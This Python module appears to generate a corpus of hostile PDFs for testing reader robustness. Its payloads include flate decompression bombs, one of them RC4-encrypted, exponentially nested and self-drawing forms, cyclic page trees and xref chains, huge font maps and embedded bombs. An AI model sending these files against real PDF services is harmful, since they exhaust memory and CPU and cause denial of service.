"""A name into a small PDF that hangs or swells a reader which believes it: bombs, forms in forms, loops, lies."""

from __future__ import annotations

import hashlib
import zlib
from collections.abc import Callable

#: The number of an object into its dictionary and, for a stream, its bytes.
Objects = dict[int, tuple[str, bytes | None]]

#: Bytes that a bomb unpacks to.
BOMB = 300 << 20

_FONT = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
#: What a password is filled up with, PDF 1.7, 7.6.3.3.
_NO_PASSWORD = bytes.fromhex("28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a")
_SAID = b"BT /F1 12 Tf 72 700 Td (report) Tj ET\n"


def pdf_of(objects: Objects, trailer: str = "/Root 1 0 R") -> bytes:
    """A file of these objects, 1 the catalogue."""
    out = bytearray(b"%PDF-1.7\n")
    places: dict[int, int] = {}
    for number, (dictionary, content) in objects.items():
        places[number] = len(out)
        out += f"{number} 0 obj\n{dictionary}\n".encode("latin-1")
        if content is not None:
            out += b"stream\n" + content + b"\nendstream\n"
        out += b"endobj\n"
    start = len(out)
    out += b"xref\n"
    for number, place in places.items():
        out += f"{number} 1\n{place:010} 00000 n \n".encode()
    return bytes(out + f"trailer <</Size {max(objects) + 1} {trailer}>>\nstartxref\n{start}\n%%EOF\n".encode())


def stream(content: bytes, filters: str = "/FlateDecode", more: str = "", times: int = 1) -> tuple[str, bytes]:
    """A packed stream as an object."""
    for _ in range(times):
        content = zlib.compress(content, 9)
    return f"<</Filter {filters}/Length {len(content)}{more}>>", content


def page(contents: str = "5 0 R", resources: str = "/Font<</F1 4 0 R>>", more: str = "") -> Objects:
    """A document of one page, the objects 1 to 4."""
    return {
        1: ("<</Type/Catalog/Pages 2 0 R>>", None),
        2: ("<</Type/Pages/Kids[3 0 R]/Count 1>>", None),
        3: (
            f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents {contents}/Resources<<{resources}>>{more}>>",
            None,
        ),
        4: (_FONT, None),
    }


def _much_text() -> bytes:
    return b"BT /F1 9 Tf " + b"(report) Tj " * (BOMB // 12) + b"ET"


def _text_bomb(filters: str, times: int) -> bytes:
    return pdf_of({**page(), 5: stream(_much_text(), filters, times=times)})


def flate_once() -> bytes:
    """Three hundred megabytes of text, packed once."""
    return _text_bomb("/FlateDecode", 1)


def flate_twice() -> bytes:
    """The same, packed twice."""
    return _text_bomb("[/FlateDecode/FlateDecode]", 2)


def flate_escaped() -> bytes:
    """The same, the filter's name spelled with an escape."""
    return _text_bomb("/Fl#61teDecode", 1)


def flate_elsewhere() -> bytes:
    """The same, the filter named in another object."""
    return pdf_of({**page(), 5: stream(_much_text(), "6 0 R"), 6: ("/FlateDecode", None)})


def flate_behind_comment() -> bytes:
    """The same, the dictionary cut by a comment that has the word obj, and called a picture."""
    content = zlib.compress(_much_text(), 9)
    dictionary = f"<</Filter/FlateDecode/Length {len(content)}%\n% 9 0 obj /Subtype/Image\n>>"
    return pdf_of({**page(), 5: (dictionary, content)})


def flate_as_hex() -> bytes:
    """The same, packed in digits besides."""
    content = zlib.compress(_much_text(), 9).hex().encode() + b">"
    dictionary = f"<</Filter[/ASCIIHexDecode/FlateDecode]/Length {len(content)}>>"
    return pdf_of({**page(), 5: (dictionary, content)})


def contents_again_and_again() -> bytes:
    """A page that is drawn from one stream a hundred thousand times."""
    content = _SAID * 2000
    return pdf_of({**page(f"[{'5 0 R ' * 100_000}]"), 5: stream(content)})


def contents_elsewhere() -> bytes:
    """The same, the list of streams in an object of its own."""
    objects = {**page("6 0 R"), 5: stream(_SAID * 2000), 6: (f"[{'5 0 R ' * 100_000}]", None)}
    return pdf_of(objects)


def one_page_two_thousand_times() -> bytes:
    """A tree whose two thousand leaves are one heavy page."""
    objects = {**page(), 5: stream(_SAID * 20_000)}
    objects[2] = (f"<</Type/Pages/Kids[{'3 0 R ' * 1900}]/Count 1900>>", None)
    return pdf_of(objects)


def _forms(depth: int, times: int, extra: str = "") -> Objects:
    objects = {**page(resources="/XObject<</X 10 0 R>>"), 5: stream(b"/X Do " * times)}
    for level in range(depth):
        resources = f"/Resources<</XObject<</X {11 + level} 0 R>>>>{extra}"
        more = f"/Type/XObject/Subtype/Form/BBox[0 0 9 9]{resources}"
        objects[10 + level] = stream(b"/X Do " * times, more=more)
    more = "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</Font<</F1 4 0 R>>>>"
    objects[10 + depth] = stream(_SAID, more=more)
    return objects


def forms_in_forms() -> bytes:
    """Forms that each draw the next ten times, nine deep."""
    return pdf_of(_forms(9, 10))


def forms_in_forms_twice() -> bytes:
    """Forms that each draw the next twice, twenty-eight deep."""
    return pdf_of(_forms(28, 2))


def form_in_itself() -> bytes:
    """A form that draws itself a thousand times."""
    objects = _forms(0, 1000)
    more = "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 10 0 R>>>>"
    return pdf_of({**objects, 10: stream(b"/X Do " * 1000, more=more)})


def form_drawn_often() -> bytes:
    """One large form that a page draws a hundred thousand times."""
    objects = _forms(0, 100_000)
    more = "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</Font<</F1 4 0 R>>>>"
    return pdf_of({**objects, 10: stream(_SAID * 2000, more=more)})


def forms_and_encrypt() -> bytes:
    """Forms in forms, and a word that would have it encrypted."""
    return pdf_of(_forms(9, 10)) + b"% /Encrypt" + bytes(100_000)


def _font_map(kind: str, lines: str) -> bytes:
    content = f"/CIDInit /ProcSet findresource begin begincmap 1 begin{kind}\n{lines}\nend{kind} endcmap".encode()
    objects = {**page(), 5: stream(b"BT /F1 12 Tf 72 700 Td <000100020003> Tj ET")}
    encoding = "/Encoding/Identity-H/DescendantFonts[7 0 R]/ToUnicode 8 0 R"
    system = "/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)/Supplement 0>>"
    objects[4] = (f"<</Type/Font/Subtype/Type0/BaseFont/X{encoding}>>", None)
    objects[7] = (f"<</Type/Font/Subtype/CIDFontType2/BaseFont/X{system}>>", None)
    objects[8] = stream(content)
    return pdf_of(objects)


def _rc4(key: bytes, data: bytes) -> bytes:
    """Bytes locked, or unlocked, with RC4, as the first kind of encryption of PDF has it."""
    state = list(range(256))
    j = 0
    for i in range(256):
        j = (j + state[i] + key[i % len(key)]) % 256
        state[i], state[j] = state[j], state[i]
    out = bytearray(data)
    i = j = 0
    for place, byte in enumerate(out):
        i = (i + 1) % 256
        j = (j + state[i]) % 256
        state[i], state[j] = state[j], state[i]
        out[place] = byte ^ state[(state[i] + state[j]) % 256]
    return bytes(out)


def flate_encrypted() -> bytes:
    """Three hundred megabytes of text, packed and then encrypted without a password."""
    owner, name = bytes(range(32)), bytes(16)
    key = hashlib.md5(_NO_PASSWORD + owner + (-4).to_bytes(4, "little", signed=True) + name).digest()[:5]
    dictionary, content = stream(_much_text())
    of_object = hashlib.md5(key + b"\x05\0\0" + b"\0\0").digest()[:10]
    user = _rc4(key, _NO_PASSWORD)
    lock = f"/Filter/Standard/V 1/R 2/P -4/O<{owner.hex()}>/U<{user.hex()}>"
    locked = {**page(), 5: (dictionary, _rc4(of_object, content))}
    return pdf_of(locked, f"/Root 1 0 R/ID[<{name.hex()}><{name.hex()}>]/Encrypt<<{lock}>>")


def font_map_of_four_milliards() -> bytes:
    """A character map of a font with two to the power of 32 codes."""
    return _font_map("bfrange", "<00000000> <ffffffff> <e000>")


def font_map_of_codes() -> bytes:
    """The same by numbers of glyphs."""
    return _font_map("cidrange", "<00000000> <ffffffff> 0")


def font_map_of_long_texts() -> bytes:
    """A map of sixty-five thousand codes, each a thousand characters."""
    return _font_map("bfrange", f"<0000> <ffff> <{'4e00' * 1000}>")


def pages_in_a_ring() -> bytes:
    """A tree of pages that holds itself."""
    objects = {**page(), 5: stream(_SAID)}
    objects[2] = ("<</Type/Pages/Kids[2 0 R 3 0 R 2 0 R]/Count 2147483647>>", None)
    return pdf_of(objects)


def brackets() -> bytes:
    """A million open brackets where a dictionary should be, and in what a page is drawn from."""
    objects = {**page(more=f"/X {'[' * 1_000_000}"), 5: stream(b"[" * 1_000_000 + b"<<" * 1_000_000)}
    return pdf_of(objects)


def tables_in_a_ring() -> bytes:
    """A table of objects that says it goes on where it begins."""
    whole = pdf_of({**page(), 5: stream(_SAID)})
    start = int(whole.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
    return whole.replace(b"/Root 1 0 R", f"/Root 1 0 R /Prev {start}".encode())


def packed_objects_that_lie() -> bytes:
    """Packed objects that say there are two milliards of them."""
    objects = {**page(), 5: stream(_SAID)}
    objects[6] = stream(b"9 0 <<>>", more="/Type/ObjStm/N 2147483647/First 2147483647")
    return pdf_of(objects)


def huge_page() -> bytes:
    """A page of ten million points by as many, with a picture of a milliard dots."""
    content = b"BI /W 100000 /H 100000 /BPC 8 /CS /RGB ID \0\0 EI\n" + _SAID
    objects = {**page(), 5: stream(content)}
    dictionary = objects[3][0].replace("[0 0 612 792]", "[0 0 1e7 1e7]")
    return pdf_of({**objects, 3: (dictionary, None)})


def font_in_its_own_glyph() -> bytes:
    """A font whose glyphs are drawn with the font itself."""
    objects = {**page(), 5: stream(b"BT /F1 12 Tf (" + b"a" * 3000 + b") Tj ET")}
    resources = "/Resources<</Font<</F1 4 0 R>>>>"
    glyphs = "/CharProcs<</a 7 0 R>>/Encoding<</Differences[97/a]>>/FirstChar 97/LastChar 97/Widths[600]"
    objects[4] = (f"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]{glyphs}{resources}>>", None)
    objects[7] = stream(b"600 0 d0 BT /F1 12 Tf (" + b"a" * 3000 + b") Tj ET")
    return pdf_of(objects)


def many_lines() -> bytes:
    """A page of two million ruled lines, as a drawing has."""
    return pdf_of({**page(), 5: stream(b"0 0 1 1 re f " * 2_000_000 + _SAID)})


def many_glyphs_apart() -> bytes:
    """A page of two hundred thousand characters, each at a place of its own."""
    places = [f"1 0 0 1 {n * 7919 % 600} {n * 104729 % 780} Tm (a) Tj" for n in range(200_000)]
    return pdf_of({**page(), 5: stream(f"BT /F1 9 Tf {' '.join(places)} ET".encode())})


def many_grid_lines() -> bytes:
    """A page ruled into a million cells, with text in some."""
    rules = [f"{n * 0.6:.1f} 0 0.1 780 re f 0 {n * 0.78:.2f} 600 0.1 re f" for n in range(1000)]
    return pdf_of({**page(), 5: stream(" ".join(rules).encode() + _SAID * 2000)})


def many_annotations() -> bytes:
    """A page with two hundred thousand notes pinned to it, and next to no text."""
    note = "<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</F(a)/EF<</F 5 0 R>>>>>>"
    return pdf_of({**page(more=f"/Annots[{note * 20_000}]"), 5: stream(_SAID)})


def attached_bomb() -> bytes:
    """A cover to which fifty bombs are attached."""
    specs = "".join(f"(a{n}.pdf)<</Type/Filespec/F(a{n}.pdf)/EF<</F 9 0 R>>>>" for n in range(50))
    objects = {**page(), 5: stream(_SAID), 9: stream(forms_in_forms(), more="/Type/EmbeddedFile")}
    objects[1] = (f"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[{specs}]>>>>>>", None)
    return pdf_of(objects)


def attached_gigabyte() -> bytes:
    """A cover with a gigabyte of blanks attached."""
    objects = {**page(), 5: stream(_SAID), 9: stream(b" " * (3 * BOMB), more="/Type/EmbeddedFile")}
    names = "/Names<</EmbeddedFiles<</Names[(a.txt)<</Type/Filespec/F(a.txt)/EF<</F 9 0 R>>>>]>>>>"
    objects[1] = (f"<</Type/Catalog/Pages 2 0 R{names}>>", None)
    return pdf_of(objects)


def words_of_streams() -> bytes:
    """Thirty million times the word with which a stream begins."""
    return pdf_of({**page(), 5: stream(_SAID)}) + b"stream" * 30_000_000


MAKERS: tuple[Callable[[], bytes], ...] = (
    flate_once,
    flate_twice,
    flate_escaped,
    flate_elsewhere,
    flate_behind_comment,
    flate_as_hex,
    flate_encrypted,
    contents_again_and_again,
    contents_elsewhere,
    one_page_two_thousand_times,
    forms_in_forms,
    forms_in_forms_twice,
    form_in_itself,
    form_drawn_often,
    forms_and_encrypt,
    font_map_of_four_milliards,
    font_map_of_codes,
    font_map_of_long_texts,
    pages_in_a_ring,
    brackets,
    tables_in_a_ring,
    packed_objects_that_lie,
    huge_page,
    font_in_its_own_glyph,
    many_lines,
    many_glyphs_apart,
    many_grid_lines,
    many_annotations,
    attached_bomb,
    attached_gigabyte,
    words_of_streams,
)
